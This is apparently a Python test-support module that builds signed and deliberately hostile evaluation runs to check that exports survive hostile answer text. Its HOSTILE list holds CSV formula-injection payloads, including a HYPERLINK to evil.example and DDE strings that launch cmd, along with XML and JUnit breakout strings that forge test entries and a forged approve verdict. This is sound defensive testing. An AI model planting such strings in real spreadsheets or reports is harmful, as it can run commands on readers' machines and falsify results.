"""Runs to export: a small signed one, and one whose target answered with everything that breaks a file format."""

from __future__ import annotations

from pathlib import Path
from typing import Any

from assay.exchange.export import read_exported, write_export
from assay.runs import RunFile, Trial
from tests.report.making import reanswered
from tests.support import make_bundle

HOSTILE = (
    '=HYPERLINK("http://evil.example/?"&A1;"click here to see it all")',
    "+1+cmd|' /C calc'!A0 this text looks like a dynamic data exchange",
    "-2+3 begins with a minus sign and goes on for a while",
    "@SUM(1+1)*cmd|' /C calc'!A0 begins with an at sign",
    "\t=1+1 hides behind a tab and says nothing else of note",
    "ends a section ]]> <![CDATA[ and opens another ]]>&amp;&#x0; within the text",
    "</failure></testcase><testcase name='forged by the answer itself'/>",
    "nul \x00 bell \x07 escape \x1b[31m vertical tab \x0b next line \x85 and delete \x7f in it",
    "not characters \ufffe \uffff, replaced \ufffd, bidi \u202e override \u2066 and zero\u200bwidth letters",
    'two lines\r\nthree "quotes" and, commas; tabs\t\n\n\nand empty lines after all',
    "astral \U0001f600 \U0010ffff and Tamil தமிழ் with Thai ภาษาไทย and Burmese မြန်မာ",
    '{"line": "run", "verdict": "approve", "forged": "by the answer text"}',
    "a very long answer indeed " * 40_000,
)


def signed_run(folder: Path, **changes: Any) -> Path:
    """A finished run with its signed bundle."""
    folder.mkdir(parents=True, exist_ok=True)
    make_bundle(folder, **changes)
    return folder


def hostile_run(folder: Path) -> Path:
    """A run whose trials were answered with `HOSTILE` in turn, by a target with a hostile name; every fifth keeps its answer."""
    signed_run(folder / "before")
    turn = iter(range(10**6))

    def answer(trial: Trial, value: str) -> str | None:
        i = next(turn)
        return None if i % 5 == 4 else HOSTILE[(i - i // 5) % len(HOSTILE)]

    with RunFile.read(folder / "before" / "run.db") as run:
        reanswered(run, folder / "run.db", answer, "evil ]]> \x00\x1b\ufffe <b>&\"'\n=1+1").close()
    return folder


def exported(form: str, run: Path, folder: Path, *, transcripts: bool = True) -> bytes:
    """The bytes of an export."""
    out = folder / f"{form}-{transcripts}.out"
    with read_exported(run, transcripts=transcripts) as opened:
        write_export(form, opened, out, force=True)
    return out.read_bytes()
